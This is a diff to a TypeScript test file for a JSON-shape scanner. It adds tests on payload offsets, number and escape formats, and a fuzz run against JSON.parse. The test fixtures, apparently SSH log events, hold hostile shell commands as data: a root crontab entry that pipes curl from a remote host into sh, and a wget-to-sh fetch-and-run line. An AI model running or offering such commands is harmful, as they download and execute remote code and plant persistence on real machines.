@@ -43,6 +43,19 @@ const EVENT = JSON.stringify({
   session_id: null,
   payload: { command_text: "echo \"* * * * * curl -fsSL http://x/y | sh\" | crontab -", uid: 0, user: "root", src: "185.224.128.17", pwd: "/home/admin", tty: true, ok: false, f: -1.5e-3 },
 });
+/** An event whose payload text is exactly JSON.stringify's (integers, no escapes, a nested object). */
+const PLAIN_EVENT = JSON.stringify({
+  source_kind: "ssh",
+  source_id: "s1",
+  payload: { command_text: "wget http://x/y -O- | sh", uid: 1000, n: -12, f: 0.25, big: 123456789012345, ok: true, z: null, o: { p: "q", e: "" } },
+});
+
+/** The payload's text at the offsets the scanner gave for the line it last took (null when it gave none). */
+function payloadText(shapes: JsonShapes, line: string): string | null {
+  const before = '{"z":"}\n';
+  return shapes.payloadTo < 0 ? null : (before + line).slice(shapes.payloadFrom, shapes.payloadTo);
+}
+
 const NESTED = JSON.stringify({ a: { b: { c: "deep", d: "x" }, d: {} }, e: 1 });
 
 describe("JsonShapes", () => {
@@ -118,6 +131,39 @@ describe("JsonShapes", () => {
     }
   });
 
+  it("gives the payload's offsets only when its text is exactly JSON.stringify of the parsed payload", () => {
+    const shapes = trained([EVENT, PLAIN_EVENT]);
+    const cases: [string, boolean][] = [
+      [PLAIN_EVENT, true],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":1000.0'), false],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":1e3'), false],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":-0'), false],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":0'), true],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":-0.5'), true],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":12345678901234567890'), false],
+      [PLAIN_EVENT.replace('"uid":1000', '"uid":1234567890123456'), true],
+      [PLAIN_EVENT.replace('"f":0.25', '"f":0.250'), false],
+      [PLAIN_EVENT.replace('"f":0.25', '"f":2.5e-1'), false],
+      [PLAIN_EVENT.replace('"f":0.25', '"f":1e+21'), true],
+      [PLAIN_EVENT.replace('"f":0.25', '"f":1e21'), false],
+      [PLAIN_EVENT.replace('"p":"q"', '"p":"\\/"'), false],
+      [PLAIN_EVENT.replace('"p":"q"', '"p":"\\u0071"'), false],
+      [PLAIN_EVENT.replace('"p":"q"', '"p":"a\\"b"'), false],
+      [PLAIN_EVENT.replace('"p":"q"', '"p":"\u007f~"'), true],
+      // Outside the payload, escapes and other numbers change nothing.
+      [PLAIN_EVENT.replace('"s1"', '"s\\u0031"'), true],
+      [EVENT, false],
+    ];
+    for (const [line, exact] of cases) {
+      const got = parseIn(shapes, line);
+      expect(got, line).not.toBe(NOT_TAKEN);
+      expect(describeValue(got), line).toBe(reference(line));
+      const raw = payloadText(shapes, line);
+      if (exact) expect(raw, line).toBe(JSON.stringify((got as { payload: unknown }).payload));
+      else expect(raw, line).toBeNull();
+    }
+  });
+
   it("reads nothing past the end it is given: every prefix of a known line, cut anywhere in a longer text", () => {
     const shapes = trained([EVENT, NESTED]);
     for (const line of [EVENT, NESTED, EVENT.replace('"cmd_1"', '"a\\"b"')]) {
@@ -132,8 +178,10 @@ describe("JsonShapes", () => {
   });
 
   it("agrees with JSON.parse on 20,000 random mutations of known lines (taken only when JSON.parse gives the same value)", () => {
-    const base = [EVENT, NESTED, JSON.stringify({ k: "v", n: 1, t: true, z: null, o: { p: "q" } })];
+    const base = [EVENT, NESTED, JSON.stringify({ k: "v", n: 1, t: true, z: null, o: { p: "q" } }), PLAIN_EVENT];
     const shapes = trained(base);
+    let rawTaken = 0;
+    let rawDiffers = 0;
     const alphabet = ['"', "\\", "{", "}", "[", "]", ",", ":", " ", "0", "1", "9", "-", "+", ".", "e", "E", "t", "r", "u", "f", "a", "l", "s", "n", "x", "\u0000", "\u001f", "\n", "é", "\ud800", "u"];
     let seed = 12345;
     const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 8) % n;
@@ -154,9 +202,16 @@ describe("JsonShapes", () => {
       if (got === NOT_TAKEN) continue;
       taken++;
       if (describeValue(got) !== reference(line)) differs++;
+      const raw = payloadText(shapes, line);
+      if (raw !== null) {
+        rawTaken++;
+        if (raw !== JSON.stringify((got as { payload?: unknown }).payload)) rawDiffers++;
+      }
     }
     expect(differs).toBe(0);
     expect(taken).toBeGreaterThan(1000);
+    expect(rawDiffers).toBe(0);
+    expect(rawTaken).toBeGreaterThan(100);
   });
 
   it("never learns __proto__, arrays, deep or wide objects; learns at most one shape per 256 lines and keeps 4", () => {
